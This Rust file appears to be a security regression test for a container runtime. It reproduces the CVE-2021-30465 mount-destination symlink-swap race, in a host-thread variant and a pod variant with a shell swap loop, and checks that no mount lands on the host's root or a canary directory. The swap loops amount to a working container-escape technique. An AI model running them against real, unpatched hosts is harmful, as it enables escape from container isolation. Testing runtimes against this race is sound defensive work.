//! Issue 17, bar 4: the mount-destination symlink swap (CVE-2021-30465). A volume is shared
//! with a process that loops swapping a directory of it (the parent of another mount's
//! destination) for a symlink to a host canary directory or to `/`, while a container
//! whose mounts lie under that directory is started again and again. Whatever the timing,
//! no mount and no file may land in the canary or at `/` of the host: every destination is
//! resolved by descriptor inside the container's rootfs and mounted onto that descriptor.
//!
//! The swapper runs on the host, which makes it a stronger attacker than a container of
//! the pod (it could point the link anywhere); the container mounts the volume first
//! (`/vol`) and then a directory and a file under the swapped entry (`/vol/d/...`), the
//! kubelet's depth order.

use std::path::Path;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};

use serde_json::json;

use super::Outcome;
use super::rootfs_symlinks::{bundle_on, canary, diff, rootfs_copy, snapshot};
use crate::executor_support::{base_config, run_secctx, text};
use crate::pods_support::{Env, text as pods_text};

/// Starts of the container while the swapper runs.
const RUNS: usize = 100;

/// Swaps `vol/d` between a directory and a symlink to `targets[i % 2]` until `stop`.
fn swapper(vol: &Path, targets: [std::path::PathBuf; 2], stop: Arc<AtomicBool>) {
    let d = vol.join("d");
    let parked = vol.join("d.dir");
    let mut i = 0usize;
    while !stop.load(Ordering::Relaxed) {
        // Directory in place...
        let _ = std::fs::remove_file(&d);
        let _ = std::fs::rename(&parked, &d);
        std::thread::yield_now();
        // ...then a symlink in its place.
        let _ = std::fs::rename(&d, &parked);
        let _ = std::os::unix::fs::symlink(&targets[i % 2], &d);
        std::thread::yield_now();
        i += 1;
    }
}

/// Regular containers of the pod variant that start while the first one swaps.
const VICTIMS: usize = 20;

/// The pod variant: the first container of a pod loops swapping `/vol/d` (in an emptyDir it
/// shares) for a symlink to `/` or to a host canary path, while the pod's other containers,
/// which mount another emptyDir at `/vol/d/<name>`, are created one after another.
fn pod_race() -> Outcome {
    let canary = canary("podrace");
    let name = format!("secctx-podrace-{}", std::process::id());
    let at_root = Path::new("/").join(&name);
    let root_before = at_root.exists();
    let before = snapshot(&canary);
    let swap = format!(
        "mkdir -p /vol/d.dir; end=$(( $(date +%s) + 15 )); i=0; \
         while [ $(date +%s) -lt $end ]; do \
           rm -f /vol/d; mv /vol/d.dir /vol/d; mv /vol/d /vol/d.dir; \
           if [ $((i % 2)) = 0 ]; then ln -s / /vol/d; else ln -s {} /vol/d; fi; i=$((i+1)); \
         done; echo swapped $i",
        canary.display()
    );
    let mut yaml = format!(
        "apiVersion: v1\nkind: Pod\nmetadata: {{name: rootfs-podrace}}\nspec:\n  restartPolicy: Never\n  containers:\n  - name: swapper\n    image: busybox:1.28\n    command: [sh, -c, '{swap}']\n    volumeMounts: [{{name: shared, mountPath: /vol}}]\n"
    );
    for i in 0..VICTIMS {
        yaml.push_str(&format!(
            "  - name: v{i}\n    image: busybox:1.28\n    command: ['true']\n    volumeMounts: [{{name: shared, mountPath: /vol}}, {{name: other, mountPath: /vol/d/{name}}}]\n"
        ));
    }
    yaml.push_str(
        "  volumes:\n  - {name: shared, emptyDir: {}}\n  - {name: other, emptyDir: {}}\n",
    );
    let env = Env::new();
    let file = env.write("rootfs-podrace.yaml", &yaml);
    let out = env.run(&file, &[]);
    let _ = env.cmd().args(["rm", "rootfs-podrace"]).output();
    let after = snapshot(&canary);
    let mut changed = diff(&before, &after);
    if !root_before && at_root.exists() {
        changed.push_str(&format!("; /{name} created on the host"));
        let _ = std::fs::remove_dir(&at_root);
    }
    let swapped = String::from_utf8_lossy(&out.stdout).contains("swapped");
    let blocked = changed.is_empty() && swapped;
    let detail = format!(
        "{}{}; {}",
        if changed.is_empty() {
            "canary and host / unchanged".to_string()
        } else {
            format!("HOST CHANGED: {changed}")
        },
        if swapped {
            ""
        } else {
            "; the swapper did not run"
        },
        pods_text(&out).replace('\n', " ")
    );
    let _ = std::fs::remove_dir_all(&canary);
    Outcome::new(
        format!("a pod container swaps /vol/d while {VICTIMS} others mount under it"),
        blocked,
        detail,
    )
}

/// Every attack of the class.
pub fn attempts() -> Vec<Outcome> {
    let mut out = vec![bundle_race()];
    out.push(pod_race());
    out
}

/// The bundle variant, the swapper on the host.
fn bundle_race() -> Outcome {
    let canary = canary("race");
    let root = rootfs_copy("race");
    let vol = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(vol.path().join("d.dir")).unwrap();
    let src = tempfile::tempdir().unwrap();
    let file = src.path().join("file");
    std::fs::write(&file, "mounted file\n").unwrap();
    // Names unique to this test, so a file they create at the host's `/` is recognised.
    let pid = std::process::id();
    let sub = format!("secctx-race-sub-{pid}");
    let f = format!("secctx-race-file-{pid}");
    let host_root_before = (
        Path::new("/").join(&sub).exists(),
        Path::new("/").join(&f).exists(),
    );
    let before = snapshot(&canary);
    let mut c = base_config(&["true"]);
    c["mounts"].as_array_mut().unwrap().extend([
        json!({"destination": "/vol", "type": "bind", "source": vol.path(), "options": ["rbind", "rw"]}),
        json!({"destination": format!("/vol/d/{sub}"), "type": "bind", "source": src.path(), "options": ["rbind", "ro"]}),
        json!({"destination": format!("/vol/d/{f}"), "type": "bind", "source": &file, "options": ["rbind", "ro"]}),
    ]);
    let b = bundle_on("race", &c, &root);
    let stop = Arc::new(AtomicBool::new(false));
    let t = {
        let (vol, stop) = (vol.path().to_path_buf(), stop.clone());
        let targets = [canary.clone(), "/".into()];
        std::thread::spawn(move || swapper(&vol, targets, stop))
    };
    let mut exits = std::collections::BTreeMap::<String, usize>::new();
    let mut sample = String::new();
    for i in 0..RUNS {
        let out = run_secctx(&b, &format!("rootfs-race-{i}"));
        let key = format!("exit {:?}", out.status.code());
        *exits.entry(key).or_default() += 1;
        if !out.status.success() && sample.is_empty() {
            sample = text(&out).replace('\n', " ");
        }
    }
    stop.store(true, Ordering::Relaxed);
    t.join().unwrap();
    let after = snapshot(&canary);
    let mut changed = diff(&before, &after);
    for (name, was) in [(&sub, host_root_before.0), (&f, host_root_before.1)] {
        if !was && Path::new("/").join(name).exists() {
            changed.push_str(&format!("; /{name} created on the host"));
            let _ = std::fs::remove_dir(Path::new("/").join(name));
            let _ = std::fs::remove_file(Path::new("/").join(name));
        }
    }
    let blocked = changed.is_empty();
    let detail = format!(
        "{RUNS} starts while swapping /vol/d for a symlink to the canary or /: {exits:?}; {}{}",
        if blocked {
            "canary and host / unchanged".to_string()
        } else {
            format!("HOST CHANGED: {changed}")
        },
        if sample.is_empty() {
            String::new()
        } else {
            format!("; a refused start: {sample}")
        }
    );
    let _ = std::fs::remove_dir_all(&b);
    let _ = std::fs::remove_dir_all(&root);
    let _ = std::fs::remove_dir_all(&canary);
    Outcome::new(
        "mount destination swapped for a symlink while the container starts",
        blocked,
        detail,
    )
}
